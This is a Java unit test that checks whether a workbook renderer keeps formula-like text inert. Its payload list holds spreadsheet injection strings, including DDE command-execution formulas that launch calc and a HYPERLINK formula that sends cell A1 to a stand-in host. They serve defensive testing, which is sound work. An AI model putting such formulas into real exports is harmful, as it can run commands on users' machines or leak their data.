package dev.vetted.evidence.workbook;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Puts hostile text into each field there is. */
class WorkbookTextSafetyTest {

    private final WorkbookRenderer renderer = new WorkbookRenderer();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(1+1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "＝1+1",
                "＋1+1",
                "－1+1",
                "＠SUM(1)",
                "  =1+1",
                "\uFEFF=1+1",
                "=1+2\";=1+2",
                "=1+2'\" ;,=1+2",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://example.invalid?x=\"&A1,\"click\")",
                "@DDE(\"cmd\",\"/C calc\",\"x\")",
                "harmless\n=1+1",
                "harmless\r\n@SUM(1)"
            })
    void text_that_looks_like_a_formula_stays_text_in_each_field(String hostile) {
        var counter = new AtomicInteger();
        var evidence = Rewritten.texts(
                DecisionEvidenceFixtures.rich(), text -> hostile + " #" + counter.incrementAndGet() + "#");

        var workbook = ReadBack.withPoi(renderer.render(evidence));

        assertThat(ReadBack.cells(workbook)).noneMatch(cell -> cell.getCellType() == CellType.FORMULA);
        assertThat(unquoted(workbook)).isEmpty();
        assertThat(ReadBack.allText(workbook)).contains(numbered(counter.get()));
    }

    @Test
    void numbers_in_text_fields_stay_text() {
        var evidence = Rewritten.texts(DecisionEvidenceFixtures.rich(), text -> "0012");

        var workbook = ReadBack.withPoi(renderer.render(evidence));

        assertThat(ReadBack.cell(workbook, "Controls", "A5").getCellType()).isEqualTo(CellType.STRING);
        assertThat(ReadBack.cell(workbook, "Controls", "A5").getStringCellValue())
                .isEqualTo("0012");
    }

    @Test
    void characters_that_xml_cannot_hold_are_shown_by_their_code_point() {
        var evidence = Rewritten.texts(DecisionEvidenceFixtures.rich(), text -> "a\u0000b\u0007c\uFFFEd\uD800e\u202Ef");

        var workbook = ReadBack.withPoi(renderer.render(evidence));

        assertThat(ReadBack.cell(workbook, "Controls", "A5").getStringCellValue())
                .isEqualTo("a[U+0000]b[U+0007]c[U+FFFE]d[U+D800]e[U+202E]f");
        assertThat(workbook.getProperties().getCoreProperties().getTitle()).contains("[U+0007]");
    }

    @Test
    void text_that_looks_like_an_escape_of_excel_comes_back_as_written() {
        var evidence = Rewritten.texts(DecisionEvidenceFixtures.rich(), text -> "_x0041_ and _x005F_x0041_");

        var workbook = ReadBack.withPoi(renderer.render(evidence));

        assertThat(ReadBack.cell(workbook, "Controls", "A5").getStringCellValue())
                .isEqualTo("_x0041_ and _x005F_x0041_");
    }

    @Test
    void text_over_the_limit_of_a_cell_is_cut_and_says_so() {
        var evidence = Rewritten.texts(
                DecisionEvidenceFixtures.rich(),
                text -> text.startsWith("Exception noted") ? "x".repeat(40_000) : text);

        var workbook = ReadBack.withPoi(renderer.render(evidence));

        assertThat(ReadBack.cell(workbook, "Exceptions", "S6").getStringCellValue())
                .hasSize(32_767)
                .startsWith("xxx")
                .endsWith("[Cut here: the text has 40000 characters, a cell holds 32767."
                        + " The whole text stands in the report.]");
    }

    /** Cells with a line that a program could take for a formula, without the mark that they are text. */
    private static List<String> unquoted(XSSFWorkbook workbook) {
        List<String> unquoted = new ArrayList<>();
        for (Cell cell : ReadBack.cells(workbook)) {
            boolean dangerous = cell.getCellType() == CellType.STRING
                    && cell.getStringCellValue()
                            .lines()
                            .anyMatch(line -> line.strip().replace("\uFEFF", "").matches("[=+\\-@＝＋－＠].*"));
            if (dangerous && !cell.getCellStyle().getQuotePrefixed()) {
                unquoted.add(cell.getSheet().getSheetName() + "!" + cell.getAddress());
            }
        }
        return unquoted;
    }

    private static List<String> numbered(int count) {
        List<String> marks = new ArrayList<>();
        for (int i = 1; i <= count; i++) {
            marks.add("#" + i + "#");
        }
        return marks;
    }
}
